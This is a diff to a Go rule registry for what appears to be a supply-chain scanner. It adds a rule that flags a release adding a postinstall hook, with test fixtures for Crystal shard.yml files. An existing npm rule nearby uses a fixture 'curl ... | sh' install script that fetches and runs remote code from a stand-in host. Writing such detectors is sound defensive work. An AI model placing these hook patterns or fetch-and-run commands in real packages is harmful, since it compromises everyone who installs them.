@@ -848,6 +848,13 @@ var registry = []Rule{
 			{"index.js", "const { spawn } = require('child_process')\nfunction checkLater() {\n  spawn(process.execPath, [check], { detached: true, stdio: 'ignore' }).unref()\n}\nmodule.exports = { checkLater }", 0, true},
 			{"pkg/__init__.py", "import subprocess\ntry:\n    __version__ = subprocess.check_output(['git', 'describe']).decode()\nexcept Exception:\n    __version__ = '0'", 3, true},
 		}},
+	{"install-hook-release", KindScript, High, "a release adds an install hook that runs a file the change does not show",
+		"the version bump publishes it: every machine that installs that release runs the hook before any test, and its code is not in this diff (how install-time worms republish themselves)", []Case{
+			{"shard.yml", "diff --git a/shard.yml b/shard.yml\n--- a/shard.yml\n+++ b/shard.yml\n@@ -1,3 +1,5 @@\n name: x\n-version: 1.0.0\n+version: 1.0.1\n crystal: \">= 1.0\"\n+scripts:\n+  postinstall: crystal run src/setup/init.cr\n", 5, false},
+			// Building a native extension with make, or a hook added without a release.
+			{"shard.yml", "diff --git a/shard.yml b/shard.yml\n--- a/shard.yml\n+++ b/shard.yml\n@@ -1,3 +1,5 @@\n name: x\n-version: 1.0.0\n+version: 1.0.1\n crystal: \">= 1.0\"\n+scripts:\n+  postinstall: make -C ext\n", 0, true},
+			{"shard.yml", "diff --git a/shard.yml b/shard.yml\n--- a/shard.yml\n+++ b/shard.yml\n@@ -1,2 +1,4 @@\n name: x\n version: 1.0.0\n+scripts:\n+  postinstall: crystal run src/setup/init.cr\n", 0, true},
+		}},
 	{"npm-lifecycle-runs", KindScript, High, "npm lifecycle script downloads, decodes or runs inline code",
 		"npm runs it at install on the runner, before any test, and what it runs is not in the diff", []Case{
 			{"package.json", "{\n  \"scripts\": {\n    \"postinstall\": \"curl -s https://x.invalid/i | sh\"\n  }\n}", 3, false},
